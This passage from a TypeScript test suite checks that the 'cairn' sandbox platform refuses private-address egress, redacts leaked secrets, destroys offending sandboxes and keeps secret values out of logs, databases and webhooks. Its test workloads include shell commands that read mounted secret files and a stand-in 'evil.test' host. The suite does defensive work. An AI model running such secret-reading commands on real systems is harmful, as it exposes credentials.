      const allowed = await receiptsOf((await submissions.get('egress-proxied-allowed')!).body.runId!);
      expect(decided?.policy_version).not.toBe(allowed.find((r) => r.type === 'policy.decided')?.policy_version);
      expect(stepReceipt(ctx.receipts, 0).exit_code).not.toBe(0);
      expect(await ctx.output(0, 'stderr')).toBe(REFUSED_BY_PROXY);
      expect(await ctx.output(1, 'stdout')).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*refused \(E_EGRESS, private_address\): sink\.test resolves to a private address/);
      expect(await ctx.output(2, 'stdout')).toBe('still here\n');
      const denied = ctx.receipts.filter((r) => r.type === 'egress.denied');
      expect(denied.map((r) => [r.host, r.port, r.reason, r.error_code, r.step_index])).toEqual([
        ['sink.test', SINK_PORT, 'private_address', 'E_EGRESS', 0],
        ['sink.test', SINK_PORT, 'private_address', 'E_EGRESS', 1],
      ]);
      expect((await sink.requests()).filter((line) => line.includes('/private-'))).toEqual([]);
    },
  },
];

// ── The suite ───────────────────────────────────────────────────────────────────────────────

interface Submission {
  name: string;
  status: number;
  body: { runId?: string; code?: string; message?: string };
}

const submissions = new Map<string, Promise<Submission>>();

function fill(text: string): string {
  return text.replaceAll('{{SINK_IP}}', sink.ip).replaceAll('{{LOOP_PORT}}', String(loopback.port)).replaceAll('{{SELF_PORT}}', String(hostOwn.port));
}

async function submit(row: Row): Promise<Submission> {
  const name = `hostile ${row.id}`;
  const response = await stack.api('/v1/runs', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'idempotency-key': uniqueName(`hostile-${row.id}`) },
    body: fill(JSON.stringify({ name, ...row.spec })),
  });
  return { name, status: response.status, body: (await response.json()) as Submission['body'] };
}

async function receiptsOf(runId: string): Promise<Record<string, unknown>[]> {
  const response = await stack.api(`/v1/runs/${runId}/events?after=0&limit=1000`);
  expect(response.status).toBe(200);
  return ((await response.json()) as { items: Record<string, unknown>[] }).items;
}

/** An artifact's bytes from the stack's store, checked against the hash it is stored under. */
async function artifact(sha256: string): Promise<Buffer> {
  expect(sha256).toMatch(/^[0-9a-f]{64}$/);
  const bytes = await stack.storedArtifact(sha256);
  if (bytes === null) throw new Error(`no artifact ${sha256} in the stack's store`);
  expect(createHash('sha256').update(bytes).digest('hex')).toBe(sha256);
  return bytes;
}

async function sealedRun(row: Row): Promise<{ runId: string; headHash: string; state: string; errorCode: string | null }> {
  const submission = await submissions.get(row.id)!;
  expect(submission.status, JSON.stringify(submission.body)).toBe(202);
  const runId = submission.body.runId!;
  const view = await stack.waitForRun(runId, (r) => r.sealed, 120_000);
  return { runId, headHash: view.headHash, state: view.state, errorCode: view.errorCode };
}

async function checkRow(row: Row): Promise<void> {
  const { runId, headHash, state, errorCode } = await sealedRun(row);
  const receipts = await receiptsOf(runId);
  const output = async (index: number, stream: 'stdout' | 'stderr') => (await artifact(stepReceipt(receipts, index)[`${stream}_sha256`] as string)).toString('utf8');
  const why = JSON.stringify(receipts.filter((r) => r.type === 'run.failed' || r.type === 'policy.decided'));
  expect({ state, errorCode }, why).toEqual({ state: row.state, errorCode: row.errorCode });

  const types = receipts.map((r) => r.type);
  expect(types.at(-1)).toBe('run.sealed');
  expect(types.includes('run.executed')).toBe(row.executed ?? row.state === 'SEALED');
  expect(types.filter((t) => t === 'step.completed')).toHaveLength(row.stepsCompleted);
  // The sandbox went, verified gone (with its network, proxy and firewall rules when it had egress).
  expect(receipts.filter((r) => r.type === 'sandbox.destroyed').map((r) => r.verified_gone)).toEqual([true]);
  expect(await stack.leftovers({ chainId: runId })).toEqual({ containers: [], networks: [], volumes: [] });

  // The proof bundle verifies offline, from genesis, up to the run's head.
  const response = await stack.api(`/v1/runs/${runId}/bundle`);
  expect(response.status).toBe(200);
  const bundle = (await response.json()) as { format: string; runId: string; receipts: unknown[]; headHash: string };
  expect(bundle).toMatchObject({ format: 'cairn.bundle/v1', runId, headHash });
  expect(verifyChain(bundle.receipts, { requireNonEmpty: true, chainId: runId })).toMatchObject({ ok: true, count: receipts.length, headHash });

  await row.check({ runId, receipts, output });
}

beforeAll(async () => {
  await removeTestContainers();
  const { ensureBusyboxImage } = await import('@cairn/sandbox-docker');
  await ensureBusyboxImage();
  sink = await startSink();
  loopback = await countingListener('127.0.0.1');
  hostOwn = await countingListener(sink.gateway);

  policyDir = await mkdtemp(join(tmpdir(), 'cairn-hostile-se-'));
  policyFile = join(policyDir, 'policy.json');
  await writePolicy(true);
  const hosts = [`sink.test=${sink.ip}`, `evil.test=${sink.ip}`, 'loop.test=127.0.0.1', `self.test=${sink.gateway}`].join(',');
  // No warm pool: these workloads need sandboxes made for them (egress sandboxes are never warm anyway).
  // Webhook deliveries go to a receiver of the test's own on loopback (allowed for this stack only).
  const hooksPort = await startHookReceiver();
  stack = await TestStack.create('hostile-se', { CAIRN_POLICY_FILE: policyFile, CAIRN_EGRESS_HOSTS: hosts, CAIRN_WARM_POOL_SIZE: '0', CAIRN_WEBHOOKS_ALLOW_PRIVATE: '1' });
  await stack.up();
  const hook = await stack.api('/v1/webhooks', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ url: `http://127.0.0.1:${hooksPort}/cairn`, events: ['*'] }),
  });
  expect(hook.status, await hook.clone().text()).toBe(201);

  // Secrets go in as a user puts them: PUT /v1/secrets/:name, the value as the text/plain body.
  for (const [name, value] of Object.entries(SECRETS)) {
    const response = await stack.api(`/v1/secrets/${name}`, { method: 'PUT', headers: { 'content-type': 'text/plain' }, body: SENT[name as SecretName] ?? value });
    expect(response.status, await response.clone().text()).toBeLessThan(300);
    expect(await response.text()).not.toContain(value);
  }
  const first = ROWS.filter((row) => row.afterPolicyChange !== true);
  for (const row of first) track(row, submit(row));
  // Then, while those run, the operator changes the policy; the later rows go in under the new one.
  const changed = changePolicy(first);
  changed.catch(() => undefined);
  for (const row of ROWS.filter((r) => r.afterPolicyChange === true)) track(row, changed.then(() => submit(row)));
});

/** The loopback HTTP server webhooks are delivered to; every body is kept. Returns its port. */
async function startHookReceiver(): Promise<number> {
  const { createServer: createHttpServer } = await import('node:http');
  const server = createHttpServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const parsed = JSON.parse(body) as { type?: string; chain?: string };
      deliveries.push({ type: String(parsed.type), chain: String(parsed.chain), body });
      response.writeHead(204).end();
    });
  });
  hooks = server;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the webhook receiver has no port');
  return address.port;
}

/** Waits until the receiver has had `run.sealed` of every chain named (deliveries are at least once, a little after). */
async function sealedDelivered(chains: readonly string[]): Promise<void> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const missing = chains.filter((chain) => !deliveries.some((d) => d.chain === chain && d.type === 'run.sealed'));
    if (missing.length === 0) return;
    if (Date.now() > deadline) throw new Error(`no run.sealed delivered for ${missing.join(', ')}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

function track(row: Row, pending: Promise<Submission>): void {
  // Each test awaits its own; meanwhile a failure must not go unhandled.
  pending.catch(() => undefined);
  submissions.set(row.id, pending);
}

/**
 * Once policy has decided every run submitted so far: a new policy document without allowPrivate,
 * and the policy service restarted the way an operator does it (stopped, then `cairn up`, which
 * starts what is not running with the stack's configuration).
 */
async function changePolicy(decidedFirst: readonly Row[]): Promise<void> {
  for (const row of decidedFirst) {
    const submission = await submissions.get(row.id)!;
    const runId = submission.body.runId;
    if (runId === undefined) continue;
    const deadline = Date.now() + 60_000;
    while (!(await stack.types(runId)).includes('policy.decided')) {
      if (Date.now() > deadline) throw new Error(`policy never decided ${runId}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
  await writePolicy(false);
  const pid = (await stack.stackFile()).services.policy!.pid;
  process.kill(pid, 'SIGTERM');
  const deadline = Date.now() + 15_000;
  while (isRunning(pid)) {
    if (Date.now() > deadline) throw new Error(`the policy service (pid ${pid}) did not stop`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const up = await stack.up();
  if (up.restarted.join() !== 'policy') throw new Error(`cairn up restarted ${JSON.stringify(up.restarted)}, not the policy service`);
}

afterAll(async () => {
  await new Promise<void>((resolve) => (hooks === null ? resolve() : hooks.close(() => resolve())));
  await stack?.dispose();
  await removeTestContainers();
  await loopback?.close();
  await hostOwn?.close();
  if (policyDir !== '') await rm(policyDir, { recursive: true, force: true });
});

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await filesUnder(path)));
    else if (entry.isFile()) out.push(path);
  }
  return out;
}

/** The sandbox sessions these tests opened, searched at the end like the runs. */
const sessionIds: string[] = [];

async function sessionWith(secret: SecretName): Promise<string> {
  const response = await stack.api('/v1/sandboxes', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ image: BUSYBOX, caps: { memoryMiB: 64, cpus: 0.5 }, ttlSeconds: 300, secrets: [secret] }),
  });
  const body = (await response.json()) as { id?: string; state?: string };
  expect(response.status, JSON.stringify(body)).toBe(201);
  sessionIds.push(body.id!);
  return body.id!;
}

async function execIn(id: string, argv: string[]): Promise<Record<string, unknown>> {
  const response = await stack.api(`/v1/sandboxes/${id}/exec`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ argv }) });
  const body = (await response.json()) as Record<string, unknown>;
  expect(response.status, JSON.stringify(body)).toBe(200);
  return body;
}

/** The session ended on the record for the secret: redaction, critical alert, FAILED E_SECRET_SEEN, destroyed, sealed; its chain verifies. */
async function expectSessionEnded(id: string, secret: SecretName, finding: Record<string, unknown>): Promise<void> {
  const deadline = Date.now() + 30_000;
  let receipts: Record<string, unknown>[] = [];
  while (Date.now() < deadline) {
    const response = await stack.api(`/v1/sandboxes/${id}/events?after=0&limit=1000`);
    receipts = ((await response.json()) as { items: Record<string, unknown>[] }).items;
    if (receipts.at(-1)?.type === 'run.sealed') break;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  expect(receipts.filter((r) => r.type === 'secret.redacted')).toContainEqual(expect.objectContaining({ ...finding, secret }));
  expect(receipts.find((r) => r.type === 'alert.raised')).toMatchObject({ severity: 'critical', error_code: 'E_SECRET_SEEN' });
  expect(receipts.find((r) => r.type === 'run.failed')).toMatchObject({ error_code: 'E_SECRET_SEEN' });
  expect(receipts.find((r) => r.type === 'sandbox.destroyed')).toMatchObject({ reason: 'failed', verified_gone: true });
  expect(receipts.at(-1)).toMatchObject({ type: 'run.sealed' });
  expect(verifyChain(receipts, { requireNonEmpty: true, chainId: id })).toMatchObject({ ok: true });
  expect(await stack.leftovers({ chainId: id })).toEqual({ containers: [], networks: [], volumes: [] });
  const text = JSON.stringify(receipts);
  for (const spelling of spellings(SECRETS[secret])) expect(text.includes(spelling), `${secret} on the session's chain`).toBe(false);
}

describe('hostile workloads that need secrets and egress, submitted through the REST gateway', () => {
  for (const row of ROWS) {
    it(`${row.id}: ${row.title} → ${[row.state, row.errorCode].filter((part) => part !== null).join(' ')}`, async () => {
      await checkRow(row);
    });
  }

  it('the sink heard only the host and the allowlisted requests: every connection it counted is one of them', async () => {
    for (const row of ROWS) await sealedRun(row);
    const requests = await sink.requests();
    expect([...requests].sort()).toEqual(['GET /allowed-connect HTTP/1.0', 'GET /allowed-plain HTTP/1.1', 'GET /ready HTTP/1.1']);
    expect(await sink.connections()).toBe(requests.length);
  });

  it('a session that copies its secret to a file and reads the file back gets E_SECRET_SEEN, no bytes, and the sandbox is destroyed', async () => {
    const id = await sessionWith('SESSION_TOKEN');
    const copied = await execIn(id, ['sh', '-c', 'cp /run/secrets/SESSION_TOKEN /work/t && wc -c < /work/t']);
    expect(copied).toMatchObject({ exitCode: 0 });
    const read = await stack.api(`/v1/sandboxes/${id}/files?path=/work/t`);
    const body = await read.text();
    expect(read.status, body).toBe(422);
    expect(JSON.parse(body)).toMatchObject({ code: 'E_SECRET_SEEN' });
    expect(body).not.toContain(SECRETS.SESSION_TOKEN);
    await expectSessionEnded(id, 'SESSION_TOKEN', { where: 'file', path: '/work/t', pattern: 'secret.plain' });
  });

  it('a session exec that prints its secret on stderr gets it redacted, and the sandbox is destroyed', async () => {
    const id = await sessionWith('SESSION_STDERR');
    const result = await execIn(id, ['sh', '-c', 'cat /run/secrets/SESSION_STDERR >&2; exit 3']);
    expect(result).toMatchObject({ exitCode: 3, stderr: '[REDACTED:SESSION_STDERR]', errorCode: 'E_SECRET_SEEN', sandboxState: 'DESTROYED' });
    await expectSessionEnded(id, 'SESSION_STDERR', { where: 'stderr', pattern: 'secret.plain' });
    expect((await stack.api(`/v1/sandboxes/${id}/exec`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ argv: ['true'] }) })).status).toBe(409);
  });

  it('no secret value, in any spelling, in any table of the stack’s database, any file under its CAIRN_HOME (every service log), any webhook delivery or any REST answer the dashboard renders', async () => {
    for (const row of ROWS) await sealedRun(row);
    const runIds = await Promise.all(ROWS.map(async (row) => (await sealedRun(row)).runId));
    await sealedDelivered([...runIds, ...sessionIds]);
    const pages: [string, string][] = [];
    for (const path of ['/v1/runs?limit=200', '/v1/sandboxes?limit=200', ...runIds.map((id) => `/v1/runs/${id}`), ...sessionIds.flatMap((id) => [`/v1/sandboxes/${id}`, `/v1/sandboxes/${id}/events?after=0&limit=1000`, `/v1/sandboxes/${id}/bundle`])]) {
      const response = await stack.api(path);
      expect(response.status, path).toBe(200);
      pages.push([`GET ${path}`, await response.text()]);
    }
    const { stdout: dump } = await exec('pg_dump', ['--no-owner', '--no-privileges', stack.database.url], { maxBuffer: 256 * 1024 * 1024 });
    // The search reaches the tables: the secret store's rows (sealed) and the runs are in the dump.
    expect(dump).toContain('LEAK_PLAIN');
    expect(dump).toContain('hostile secret-print-plain');
    const haystacks: [string, Buffer][] = [['pg_dump', Buffer.from(dump)], ...pages.map(([where, text]): [string, Buffer] => [where, Buffer.from(text)])];
    // The deliveries reach the receiver: one per receipt of the runs, the leaking ones included.
    expect(deliveries.filter((d) => d.type === 'secret.redacted').length).toBeGreaterThan(ROWS.filter((r) => r.errorCode === 'E_SECRET_SEEN').length);
    for (const d of deliveries) haystacks.push([`webhook ${d.type} of ${d.chain}`, Buffer.from(d.body)]);
    const files = await filesUnder(stack.home);
    expect(files.some((f) => f.endsWith('runtime.log'))).toBe(true);
    for (const file of files) haystacks.push([file, await readFile(file)]);
    // And every artifact the runs stored, in the stack's object store.
    const stored = await stack.storedArtifacts();
    expect(stored.size).toBeGreaterThan(ROWS.length);
    for (const [name, bytes] of stored) haystacks.push([`artifacts ${name}`, bytes]);
    const found: string[] = [];
    for (const [name, value] of Object.entries(SECRETS)) {
      for (const spelling of spellings(value)) for (const [where, bytes] of haystacks) if (bytes.includes(spelling)) found.push(`${name} in ${where}`);
    }
    expect(found).toEqual([]);
  });

  it("leaves nothing of the stack's worker on the engine", async () => {
    for (const row of ROWS) await sealedRun(row);
    expect(await stack.leftovers()).toEqual({ containers: [], networks: [], volumes: [] });
  });
});
